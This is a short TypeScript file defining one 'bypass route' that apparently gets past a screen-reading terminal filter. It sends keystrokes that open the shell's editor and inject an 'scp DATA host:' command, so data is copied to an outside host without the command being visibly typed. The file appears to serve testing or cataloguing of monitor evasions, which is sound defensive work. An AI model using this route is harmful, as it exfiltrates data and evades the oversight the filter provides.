import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by editing and executing',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['\u0018\u0005', ':0r!echo scp DATA host:\r:wq\r'],
  isRaw: true,
};
